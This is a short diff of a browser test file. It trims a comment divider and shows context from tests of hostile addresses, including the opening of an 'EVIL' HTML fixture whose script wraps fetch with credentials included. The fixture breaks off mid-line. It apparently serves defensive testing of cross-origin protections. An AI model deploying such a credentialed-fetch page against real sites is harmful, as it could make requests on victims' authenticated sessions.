@@ -106,7 +106,7 @@ def test_h8_hostile_addresses_are_inert(page, hostile, dispatcher, seen: Seen, w
     assert page.locator(f"#app :is({INSIDE})").count() == 0
 
 
-# --- T10 ---------------------------------------------------------------------------------------------
+# --- T10 ------------------------------------------------------------------------------------------
 
 EVIL = b"""<!doctype html><title>evil</title><body><script>
 const told = async (url, init) => { try { const a = await fetch(url, {credentials: "include", ...init});
